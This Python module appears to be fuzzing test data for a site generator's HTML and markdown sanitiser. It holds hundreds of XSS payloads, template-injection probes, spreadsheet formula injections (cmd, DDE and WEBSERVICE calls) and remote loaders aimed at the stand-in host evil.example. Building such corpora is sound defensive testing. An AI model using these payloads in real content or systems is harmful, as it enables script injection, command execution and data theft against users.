"""Text that tries to run or load something wherever it is shown. All of it is invented test data.

What would run calls `alert`; what would load asks evil.example, which no machine answers for.
"""

import re
from collections.abc import Iterator, Sequence
from itertools import product

from hypothesis import strategies as st

RUN = "alert(1)"
EVIL = "https://evil.example/x"

EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onpageshow",
    "onpointerenter", "onwheel", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
CARRIERS = (
    "<img src=x {}>", '<img src="x" {}>', "<svg {}>", "<svg/{}>", "<body {}>", "<details open {}>",
    "<input autofocus {}>", "<video src=x {}></video>", "<audio src=x {}></audio>", "<iframe {}></iframe>",
    "<p {} tabindex=1>sample</p>", "<style {}></style>", "<marquee {}>", "<object data=x {}>",
    "<a href=# {}>sample</a>", "<math><mi {}>", "<x-y {}>", "<select autofocus {}>",
    "<svg><animate attributeName=x dur=1s {}>", "<template><img src=x {}></template>",
)  # fmt: skip
SPELLINGS = (
    '{}="{}"', "{}={}", "{} = '{}'", "{}\n=\n{}", "{}\t=`{}`", '{}="&#97;lert(1)" data-x="{}"', "{}=\x0c{}",
    "{}&#61;{}",
)  # fmt: skip
SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java&#9;script:{}", "java&Tab;script:{}",
    "java&NewLine;script:{}", " javascript:{}", "&#1;javascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}",
    "javascript&colon;{}", "javascript&#x3A;{}", "javascript:%0a{}", "javascript://sample.example/%0a{}",
    "javascript\u200b:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>", "blob:https://evil.example/{}",
    "feed:javascript:{}", "view-source:javascript:{}", "ｊavascript:{}", "\u202ejavascript:{}", "jar:javascript:{}!/",
    "filesystem:https://evil.example/{}", "livescript:{}", "mhtml:{}", "about:blank#{}", "\ufeffjavascript:{}",
)  # fmt: skip
LINKS = (
    "[sample]({})", "[sample](<{}>)", "<{}>", "[sample][r]\n\n[r]: {}", "[sample]\n\n[sample]: <{}> 'title'",
    "<a href=\"{}\">sample</a>", "<a href='{}'>sample</a>", "<a href={}>sample</a>", '<a\nhref\n=\n"{}"\n>sample</a>',
    "![sample]({})", '<img src="{}" alt="sample">', "[![sample]({})](https://sample.example/)",
    "> Sample words.\n> — [A sample]({})", "Sample[^n]\n\n[^n]: [note]({})", '[sample](https://sample.example/ "{}")',
)  # fmt: skip
LOADERS = (
    "<script src={}></script>", "<link rel=stylesheet href={}>", "<link rel=import href={}>",
    "<link rel=preload as=script href={}>", "<link rel=dns-prefetch href={}>", "<link rel=icon href={}>",
    "<iframe src={}></iframe>", "<frameset><frame src={}></frameset>", "<object data={}></object>", "<embed src={}>",
    "<applet code={}></applet>", "<base href={}>", "<form action={}><button>sample", "<input type=image src={}>",
    "<button formaction={}>sample</button>", '<meta http-equiv="refresh" content="0; url={}">', "<img src={}>",
    "<img srcset='{} 2x' alt=sample>", "<picture><source srcset={}><img alt=sample></picture>",
    "<video src={} autoplay></video>", "<video poster={}></video>", "<audio src={} autoplay></audio>",
    "<video><track src={} default></video>", "<svg><image href={} /></svg>", "<svg><use xlink:href='{}#a'/></svg>",
    "<svg><feImage href={} /></svg>", "<math href={}>sample</math>", "<style>@import '{}';</style>",
    "<style>p {{ background: url({}) }}</style>", '<p style="background:url({})">sample</p>',
    "<table background={}><tr><td>sample</table>", "<body background={}>", "<a href=# ping={}>sample</a>",
    "<q cite={}>sample</q>", "<img longdesc={} src={} alt=sample>", "<html manifest={}>", "<portal src={}></portal>",
    "<svg><script href={} /></svg>", "![sample]({})", "![sample][i]\n\n[i]: {}", "[![sample]({})]({})",
    "<img src=//evil.example/x alt=sample>", "<img src=/\\evil.example/x alt=sample>", "![sample](//evil.example/x)",
    "![sample](/\\evil.example/x)", "![sample](\\\\evil.example\\x)", "![sample](/%5cevil.example/x)",
    "![sample](/%2f/evil.example/x)", "![sample](/\t/evil.example/x)", "![sample](/&#9;/evil.example/x)",
    "<link rel=\"modulepreload\" href={}>", "<meta http-equiv=Link content='<{}>; rel=preload'>",
    "<fencedframe src={}></fencedframe>",
)  # fmt: skip
PAYLOADS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script\n>", "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>", "<script>{}", "<\x00script>{}</script>",
    "<script type=module>{}</script>", "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe srcdoc=\"&lt;script&gt;{}&lt;/script&gt;\"></iframe>",
    "<img src=x onerror={}>", "<svg onload={}>", "<details open ontoggle={}><summary>sample</summary></details>",
)  # fmt: skip
BREAKOUTS = (
    '">{}', "'>{}", "`>{}", "-->{}", "--!>{}", "]]>{}", "</title>{}", "</textarea>{}", "</style>{}", "</noscript>{}",
    "</script>{}", "</p></div></main>{}", "</h1></header>{}", "?>{}", "%>{}", "<!--{}-->", "<!-->{}<!-- -->",
    "<!--><!-- --!>{}", "<![CDATA[{}]]>", "<!DOCTYPE x [{}]>", "<?xml {}?>", "<? {} ?>", "<!{}>", "\\\"'>{}",
    "&quot;>{}", "&#34;&#62;{}", "\u2028{}", "</{}>", "<%{}%>", "&lt;/p&gt;{}",
)  # fmt: skip
MUTATIONS = (
    '<noscript><p title="</noscript>{}">', '<title><p title="</title>{}">', '<textarea><p title="</textarea>{}">',
    '<style><p title="</style>{}">', '<xmp><p title="</xmp>{}">', '<iframe><p title="</iframe>{}">',
    '<noembed><p title="</noembed>{}">', '<svg><style><p title="</style>{}">',
    '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;{}">', "<svg></p><style><a title='</style>{}'>",
    "<svg><desc><p title='</desc>{}'>", "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<table><td><p>sample{}</table>", "<table>{}<tr><td>sample</table>", "<select><option>{}</select>",
    "<template>{}</template>", "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<a><svg><a>{}</a></svg></a>", "<p><svg><foreignObject><p>{}</svg>", "<plaintext>{}", "<listing>\n{}</listing>",
    "<ruby><rt>{}</ruby>", "<dl><dt><a><b></dl>{}</b></a>", "<b><p>{}</b></p>",
    "<abbr title='<!--'>{}<abbr title='-->'>", "<pre>\n\n{}</pre>", "<frameset>{}</frameset>",
    "<svg><title><![CDATA[</title>{}]]>", "<nobr><nobr>{}", "<image src=x>{}", "<isindex prompt=x>{}",
    "<keygen autofocus>{}", "<dialog open>{}",
)  # fmt: skip
MARKDOWN = (
    "# sample {{: onclick={} }}", "*sample*{{: onmouseover='{}' style='color:red' }}",
    "sample\n{{: onfocus={} tabindex=1 }}", "[sample](https://sample.example/){{: onclick={} }}",
    "![sample](x.png){{: onerror={} }}", "## sample {{#main onclick={}}}", "```\"><img/onerror={}/src=x>\nsample\n```",
    "``` {{.x onclick={} }}\nsample\n```", "~~~html onclick={}\n<script>sample</script>\n~~~",
    "[sample]: <javascript:{}> 'x'\n\n[sample]",
    "[sample][]\n\n[sample]: https://sample.example/ \"\\\" onclick={} x=\\\"\"",
    "*[sample]: \"><img src=x onerror={}>\n\nsample words",
    "sample[^<img src=x onerror={}>]\n\n[^<img src=x onerror={}>]: note",
    "| a | b |\n|---|---|\n| <img src=x onerror={}> | `</td>` |", "|a|\n|:-:|\n|\"><svg onload={}>|",
    "sample\n: <img src=x onerror={}>", "`</code><img src=x onerror={}>`", "    <img src=x onerror={}>",
    "> <img src=x onerror={}>\n> — \"><svg onload={}>", "<https://sample.example/\"onclick={}>",
    "<sample@sample.example\"onclick={}>", "![\"onerror={} x=\"](x.png)", "![](x.png \"\\\"onerror={}\")",
    "[<img src=x onerror={}>](https://sample.example/)", "1. <img src=x\n2. onerror={}>", "- <svg\n  onload={}>",
    "<div markdown=1 onclick={}>*sample*</div>", "<p\n\nonclick={}>", "&lt;img src=x onerror={}&gt;",
    "\\<img src=x onerror={}>", "<a name=x onclick={} id=location>sample</a>",
    "<img name=cookie id=body src=x onerror={}>",
)  # fmt: skip
CLOBBERS = (
    "<p id=main>sample</p>", "# sample {#_contact}", "<h2 id=_documents>sample</h2>", "<p id='entry-1'>sample</p>",
    "<a name='page=1'>sample</a>", "<div id=fn-1>sample</div>", "<sup id=fnref-1>sample</sup>",
    "<p id=__proto__>sample</p>", "<form id=x><input id=y></form>", "<a id=x><a id=x name=y>",
    "<p id=constructor>sample</p>", "<a class=footnote-backref href=#>sample</a>",
    "<div class=footnote><ol><li id=fn-1>sample</ol></div>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% include 'base.html' %}", "{# sample #}", "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}{{ 7*7 }}", "{%- set x = 1 -%}",
    "{{ view.title | safe }}", "%(date)s %s {0} {view}", "{{'{{'}}", "{% endblock %}", "@(7*7)", "*{7*7}", "~{7*7}",
    "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}", "\\u007b\\u007b 7*7 }}",
)  # fmt: skip
CELLS = (
    "=HYPERLINK(\"https://evil.example/\",\"sample\")", "=cmd|' /C calc'!A0", "+1+alert(1)", "-1+alert(1)", "@SUM(1+1)",
    "=IMPORTXML(\"https://evil.example/\",\"//a\")", "\t=1+1", "\"=1+1\"", "'=1+1", ";=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"1\")", "=WEBSERVICE(\"https://evil.example/\")",
)  # fmt: skip
LOOKALIKES = (
    "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "<ſcript>alert(1)</ſcript>",
    "<ᵴcript>alert(1)</ᵴcript>",
    "\u202e>tpircs<alert(1)", "<img src=x onerror\u200b=alert(1)>", "<im\u00adg src=x onerror=alert(1)>",
    "<İmg src=x onerror=alert(1)>", "ja\u0332vascript:alert(1)", "\u2066<script>\u2069alert(1)",
    "<script\u00a0>alert(1)</script>", "<a href=\"ja\u2028vascript:alert(1)\">sample</a>",
    "<\u0131mg src=x onerror=alert(1)>", "<img\u3000src=x\u3000onerror=alert(1)>", "\u0338<script>alert(1)</script>",
    "<scr\ufffdipt>alert(1)</scr\ufffdipt>", "\ud83d<script>alert(1)</script>".encode("utf-8", "replace").decode(),
    "<a href=\"https://ex\u0430mple.example/\">sample</a>",
)  # fmt: skip
SHEETS = (
    "<style>*{{background:url({e})}}</style>", "<p style=\"width:expression({r})\">sample</p>",
    "<p style='behavior:url({e})'>sample</p>", "<div style=-moz-binding:url({e})>sample</div>",
    "<p style=\"content:'</style>{r}'\">sample</p>", "<style></style\n><img src=x onerror={r}>",
    "<link rel=stylesheet href=data:,*%7bbackground:url({e})%7d>",
    "<style>@font-face{{font-family:x;src:url({e})}}</style><p style=font-family:x>sample</p>",
    "<p class=\"x{{}}*{{background:url({e})}}\">sample</p>", "*sample*{: style='background:url({e})' }",
    "<table><td style=\"background:image-set('{e}' 1x)\">sample</table>", "<svg style='filter:url({e}#a)'><g/></svg>",
)  # fmt: skip


def _corpus() -> Iterator[str]:
    yield from (carrier.format(f"{event}={RUN}") for carrier, event in product(CARRIERS, EVENTS[:6]))
    yield from (f"<img src=x {spelling.format(event, RUN)}>" for spelling, event in product(SPELLINGS, EVENTS))
    yield from (link.format(scheme.format(RUN)) for link, scheme in product(LINKS[:9], SCHEMES))
    yield from (link.format(scheme.format(RUN)) for link, scheme in product(LINKS[9:], SCHEMES[:6]))
    yield from (loader.replace("{}", EVIL) for loader in LOADERS)
    yield from (payload.format(RUN) for payload in PAYLOADS)
    yield from (
        around.format(payload.format(RUN)) for around, payload in product(BREAKOUTS, (PAYLOADS[0], PAYLOADS[-3]))
    )
    yield from (around.replace("{}", PAYLOADS[-3].format(RUN)) for around in MUTATIONS)
    yield from (written.replace("{{", "{").replace("}}", "}").replace("{}", RUN) for written in MARKDOWN)
    yield from (*CLOBBERS, *TEMPLATES, *CELLS, *LOOKALIKES)
    yield from (
        sheet.replace("{e}", EVIL).replace("{r}", RUN).replace("{{", "{").replace("}}", "}") for sheet in SHEETS
    )


CORPUS = tuple(dict.fromkeys(_corpus()))
"""Every vector once."""

CONTROLS = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0)))) + "\ufdd0\ufffe\uffff\U0001fffe"
ODD = (
    "\u2028\u2029\u202a\u202e\u2066\u2069\u200b\u200d\ufeff\u00ad"
    "\u0130\u017f\u212a\u0301\ufffd\U0001f4a3\U000e0041\xa0\u3000"
)

ADDRESSES = (
    EVIL, "//evil.example/x", "/\\evil.example/x", "\\\\evil.example", "/\t/evil.example", "/%5cevil.example/x",
    "///evil.example", "#main", "#_contact", '#"onclick=alert(1)', "x.png", "{static}sample.png",
    "{document}sample-letter#page=1", "{release}sample", '{case}x"><img src=x onerror=alert(1)>', "{{ 7*7 }}",
    "/releases/", "mailto:a@b.example?body=<script>", 'tel:1"onclick=alert(1)',
    'https://sample.example/"onclick=alert(1)', "https://[::1", "https://a:99999/", "{static}../../x",
    "http://\u202e.example/", "www.evil.example",
)  # fmt: skip
MARKS = (
    "*", "**", "_", "`", "```", "~~~\n", "> ", "- ", "1. ", "# ", "===\n", "---\n", "| a | b |\n|---|---|\n", "|", "\\",
    "<!--", "-->", "<![CDATA[", "]]>", "&", "&#", "&#x3c;", "&lt;", "&#0;", "&#1;", "&#x80;", "&NotARef;", "\"", "'",
    "--", "...", "<", ">", "[", "](", "![", "[^a]", "{: ", "}", "“", "»", "\n> — [x]({document}sample-letter#page=1)\n",
    "\n> — Sample Speaker\n", "\n: ", "</", "<?", "<script>", "\x03", "\x02stx1\x03", "wzxhzdk:0", "klzzwxh:0001",
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "\x02amp\x03", "STX", "AT&T", "&copy",
)  # fmt: skip
PLACES = (
    "![{}]({static}sample.png)", "![sample]({static}sample.png '{}')", "<img src='{static}sample.png' alt='{}'>",
    '<img src="{static}sample.png" alt="{}" title="{}">', "![sample][i]\n\n[i]: {static}sample.png '{}'",
    "[{}]({document}sample-letter#page=1)", "[sample]({document}sample-letter '{}')",
    "[sample]({document}sample-letter#{})", "[sample](#{})", "> Sample words.\n> — [{}]({document}sample-letter)",
    "> {}\n> — {}, Sample Speaker", "# {}", "## sample {: #{} }", "| {} | b |\n|---|---|\n| a | {} |",
    "<table><caption>{}</caption><tr><th>{}<td>{}</table>", "*[sample]: {}\n\nsample", "sample[^n]\n\n[^n]: {}",
    "```{}\n{}\n```", "{}\n: {}", "<abbr title=\"{}\">sample</abbr>", "<details><summary>{}</summary>{}</details>",
    "<a id=\"{}\">sample</a>", "<code class=\"language-{}\">{}</code>", "<p lang=\"{}\" dir='{}'>sample</p>",
    "<ol start='{}'><li value=\"{}\">{}</ol>", "<td colspan=\"{}\">{}</td>", "**Click here** {} click here",
    "<{}>sample", "https://sample.example/{}", "[sample](https://sample.example/{})",
    "<figure><img src=\"{static}sample.png\" alt=\"{}\"><figcaption>{}</figcaption></figure>",
    "![{}](https://evil.example/{}.png)",
)  # fmt: skip
"""Of a body, where `{}` stands for a text; the record and the picture are there."""
SEPARATORS = ("", "", " ", "\n", "\n\n", "\n> ", "\n- ", "\n    ", "|", "\t", "\n\n***\n\n")
_NAMES = (
    "a", "img", "p", "div", "b", "code", "pre", "table", "td", "li", "h2", "details", "summary", "blockquote", "sup",
    "abbr", "script", "style", "svg", "math", "iframe", "object", "template", "noscript", "title", "textarea", "select",
    "base", "meta", "link", "form", "input", "video", "x-y", "mglyph", "foreignObject", "annotation-xml", "plaintext",
    "SCRIPT", "img/", "svg:script", "body", "html", "frameset", "main", "figure", "figcaption", "br",
)  # fmt: skip
_ATTRIBUTES = (
    "href", "src", "id", "class", "title", "alt", "name", "style", "srcset", "srcdoc", "formaction", "xlink:href",
    "action", "lang", "dir", "cite", "open", "colspan", "start", "value", "align", "datetime", "http-equiv", "content",
    "is", "slot", "ping", "background", *EVENTS,
)  # fmt: skip


def _of(texts: Sequence[str]) -> st.SearchStrategy[str]:
    """One of many texts, without naming them all whenever a strategy is printed."""
    return st.integers(0, len(texts) - 1).map(lambda index: texts[index])


_url = st.one_of(
    st.builds(lambda scheme, run: scheme.replace("{}", run), _of(SCHEMES), st.sampled_from((RUN, EVIL))),
    _of(ADDRESSES),
)
_value = st.one_of(_url, _of(CORPUS), st.text(max_size=8))
_quote = st.sampled_from(('"', "'", "", "`", '"\n'))
_attribute = st.builds(lambda name, q, value: f" {name}={q}{value}{q.strip()}", _of(_ATTRIBUTES), _quote, _value)
_tag = st.builds(
    lambda opening, name, attributes, end: f"{opening}{name}{''.join(attributes)}{end}",
    st.sampled_from(("<", "<", "<", "</", "<!", "<\n", "&lt;")),
    _of(_NAMES),
    st.lists(_attribute, max_size=3),
    st.sampled_from((">", ">", ">", "/>", "", "\n>", "><", ">>")),
)
_link = st.builds(
    lambda mark, words, url, title: f"{mark}[{words}]({url}{title})",
    st.sampled_from(("", "!", "[", "\\", "[![x](y)")),
    st.one_of(_value, st.just("sample")),
    _url,
    _value.map(lambda value: f' "{value}"') | st.just(""),
)
_reference = st.builds(
    lambda kind, name, url: f"{kind[0]}{name}{kind[1]}\n\n{kind[0]}{name}{kind[1]}: {url}\n\n",
    st.sampled_from((("[", "]"), ("[^", "]"), ("*[", "]"), ("![", "]"))),
    st.sampled_from(("a", "x", '"><b', "1", "<img src=x>")),
    _value,
)
_list_of_attributes = st.builds(
    lambda opening, items: f"{opening}{' '.join(items)} }}",
    st.sampled_from(("{: ", "\n{: ", " {", "{#x ")),
    st.lists(st.one_of(_attribute, _value, st.sampled_from((".x", "#main", "#_x", "#entry-1"))), max_size=3),
)
_marks = _of(MARKS)
_placed = st.builds(lambda place, text: place.replace("{}", text), _of(PLACES), _value)
_fragment = st.one_of(
    _placed,
    _tag,
    _link,
    _reference,
    _list_of_attributes,
    _marks,
    _of(CORPUS),
    _of(TEMPLATES),
    st.lists(_of(CONTROLS + ODD), max_size=3).map("".join),
    st.text(max_size=12),
)


@st.composite
def hostile_texts(draw: st.DrawFn, most: int = 6) -> str:
    """Pieces of markup, URLs, marks and free text, nested and joined in ways that no person would write."""
    pieces = draw(st.lists(_fragment, min_size=1, max_size=most))
    return "".join(draw(_of(SEPARATORS)) + piece for piece in pieces)


def hostile_lines() -> st.SearchStrategy[str]:
    """The same as a value of front matter, which refuses control characters: without them."""
    return hostile_texts(most=4).map(without_controls)


def without_controls(text: str) -> str:
    """As it can stand in a file of the content folder."""
    forbidden = "[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufdd0-\ufdef\ufffe\uffff]"
    return re.sub(forbidden, "", text.replace("\r", "\n"))
